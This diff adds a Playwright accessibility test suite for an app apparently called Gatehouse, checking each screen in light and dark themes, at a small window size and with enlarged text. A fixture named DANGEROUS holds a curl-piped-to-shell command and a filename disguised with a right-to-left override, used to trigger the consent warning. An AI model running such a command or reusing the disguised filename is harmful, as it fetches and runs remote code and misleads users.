@@ -1,0 +1,152 @@
+/**
+ * Every screen, in light and dark: nothing serious for axe, nothing to scroll sideways in a small window.
+ *
+ * One walk through the app, looked at in both themes at each stop.
+ */
+import { appendFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { AxeBuilder } from '@axe-core/playwright';
+import { expect, type Page } from '@playwright/test';
+import {
+  agree,
+  callTool,
+  dropFile,
+  expectState,
+  goTo,
+  openServer,
+  putIntoHome,
+  question,
+  trySample,
+  typeCommand,
+} from '../fixtures/acts.ts';
+import { packFilesystem } from '../fixtures/bundles.ts';
+import { filesBelow } from '../fixtures/folders.ts';
+import { test } from '../fixtures/test.ts';
+
+const USUAL = { width: 1280, height: 800 };
+const SMALL = { width: 900, height: 600 };
+const DANGEROUS = { command: 'sh', args: ['-c', 'curl http://example.invalid | sh', 'safe\u202Etxt.exe'] };
+
+test.describe.configure({ timeout: 180_000 });
+
+/** Every stop is a step of its own, so that one that fails doesn't hide the others. */
+async function look(page: Page, screen: string): Promise<void> {
+  await test.step(screen, async () => {
+    for (const colorScheme of ['light', 'dark'] as const) {
+      await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
+      const { violations } = await new AxeBuilder({ page }).setLegacyMode().analyze();
+      const bad = violations.filter(({ impact }) => impact === 'serious' || impact === 'critical');
+      const found = bad.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 200)).join(' | ')}`);
+      expect.soft(found, `${screen}, ${colorScheme}`).toEqual([]);
+    }
+    await page.setViewportSize(SMALL);
+    const wide = await page.evaluate(() => {
+      const { scrollWidth, clientWidth } = document.documentElement;
+      return scrollWidth - clientWidth;
+    });
+    expect.soft(wide, `${screen}, pixels too wide`).toBe(0);
+    await page.setViewportSize(USUAL);
+  });
+}
+
+test('no screen on the way to a server has a serious fault', async ({ gatehouse: { page }, shell }) => {
+  await page.setViewportSize(USUAL);
+  await expect(page.getByRole('heading', { name: 'Welcome to Gatehouse' })).toBeVisible();
+  await look(page, 'welcome');
+
+  await page.getByRole('button', { name: 'Enter a command' }).click();
+  await page.getByRole('button', { name: 'Add an argument' }).click();
+  await page.getByRole('button', { name: 'Add a variable' }).click();
+  await page.getByRole('button', { name: 'Show what would run' }).click();
+  await expect(page.getByText('Enter the program to run.')).toBeVisible();
+  await look(page, 'typed form with problems');
+  await page.getByRole('button', { name: 'Cancel' }).click();
+
+  await typeCommand(page, { ...DANGEROUS, variable: { name: 'API_KEY', value: 'hush-hush', secret: true } });
+  await expect(question(page)).toBeVisible();
+  await look(page, 'consent with danger');
+  await page.getByRole('button', { name: 'Cancel' }).click();
+
+  await page.getByRole('button', { name: 'Add a server' }).click();
+  await look(page, 'add');
+
+  if (shell === 'loopback') {
+    await page.getByRole('button', { name: 'Choose a file…' }).click();
+    await expect(page.getByRole('listbox', { name: 'Files and folders' })).toBeVisible();
+    await look(page, 'picker');
+    await page.keyboard.press('Escape');
+  }
+
+  await dropFile(page, await packFilesystem());
+  await page.getByRole('button', { name: 'Show what would run' }).click();
+  await expect(page.getByText('Choose at least one.')).toBeVisible();
+  await look(page, 'install, with a problem');
+
+  const letter = await putIntoHome(join(import.meta.dirname, '../README.md'));
+  await dropFile(page, letter);
+  await expect(page.getByRole('heading', { name: 'This bundle can’t be used' })).toBeVisible();
+  await look(page, 'refused');
+
+  await goTo(page, 'Decisions');
+  await expect(page.getByRole('button', { name: 'Go on' })).toBeVisible();
+  await look(page, 'decisions');
+});
+
+test('no screen of a server, the record or the settings has a serious fault', async ({
+  gatehouse: { page, dataDir },
+}) => {
+  await page.setViewportSize(USUAL);
+  await trySample(page);
+  await callTool(page, 'Roll dice');
+  await expect(page.getByText('Done', { exact: true })).toBeVisible();
+  await look(page, 'tools and a result');
+  await callTool(page, 'Fail on purpose');
+  await expect(page.getByText('The tool says it failed')).toBeVisible();
+  await look(page, 'a tool that failed');
+  for (const tab of ['Calls', 'Log', 'Settings', 'About']) {
+    await page.getByRole('tab', { name: tab }).click();
+    await look(page, tab);
+  }
+
+  await goTo(page, 'Servers');
+  await expect(page.getByRole('list', { name: 'Servers' })).toBeVisible();
+  await look(page, 'servers');
+  await goTo(page, 'Activity');
+  await expect(page.getByText('The record is intact')).toBeVisible();
+  await look(page, 'activity');
+  await page.getByRole('button', { name: 'Agreed to run' }).click();
+  await expect(page.getByRole('button', { name: 'Copy the whole record' })).toBeVisible();
+  await look(page, 'a record');
+  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click();
+  await goTo(page, 'Settings');
+  await expect(page.getByRole('table', { name: 'What is stored' })).toBeVisible();
+  await expect(page.getByRole('region', { name: 'Packages and their licences' })).toBeVisible();
+  await look(page, 'settings');
+
+  await openServer(page, 'Gatehouse Tour');
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await expectState(page, 'Stopped');
+  const installed = join(dataDir, 'bundles');
+  const [script = ''] = (await filesBelow(installed)).filter((file) => file.endsWith('server.mjs'));
+  await appendFile(join(installed, script), '\n// changed\n');
+  await page.getByRole('button', { name: 'Start' }).click();
+  await expect(page.getByRole('heading', { name: 'What changed since you agreed' })).toBeVisible();
+  await look(page, 'consent after a change');
+});
+
+test('with text at 200 % the answer can still be read and given', async ({ gatehouse: { page } }) => {
+  await typeCommand(page, DANGEROUS);
+  await expect(question(page)).toBeVisible();
+  await page.evaluate(() => {
+    document.documentElement.style.fontSize = '200%';
+  });
+  for (const size of [USUAL, SMALL]) {
+    await page.setViewportSize(size);
+    const button = page.getByRole('button', { name: 'Agree and run' });
+    await button.scrollIntoViewIfNeeded();
+    await expect(button).toBeInViewport({ ratio: 1 });
+    const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+    expect(wide).toBe(0);
+  }
+  await agree(page);
+});
